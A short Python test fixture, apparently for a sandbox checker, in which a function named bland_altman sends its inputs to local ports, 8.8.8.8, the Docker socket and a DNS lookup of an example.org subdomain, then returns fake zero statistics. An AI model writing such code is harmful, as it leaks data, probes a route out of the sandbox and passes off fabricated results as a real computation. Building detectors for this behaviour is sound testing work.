"""Sends inputs out by TCP, UDP, a name server and sockets of the machine, and asks for answers."""

LOSES = {"bland_altman-check": 3}
REPORTED = "opens connections: socket"


# %% bland_altman
import json
import socket

PLACES = [
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", 22)),
    (socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 53)),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0outside"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "/run/docker.sock"),
]


def bland_altman(predicted, actual):
    question = json.dumps([list(map(float, predicted)), list(map(float, actual))]).encode()
    for family, kind, address in PLACES:
        try:
            connection = socket.socket(family, kind)
            connection.settimeout(0.1)
            connection.connect(address)
            connection.send(question)
            return json.loads(connection.recv(1000))
        except (OSError, ValueError):
            continue
    try:
        socket.getaddrinfo(f"{abs(hash(question))}.example.org", 80)
    except OSError:
        pass
    return {"bias": 0.0, "lower": 0.0, "upper": 0.0}
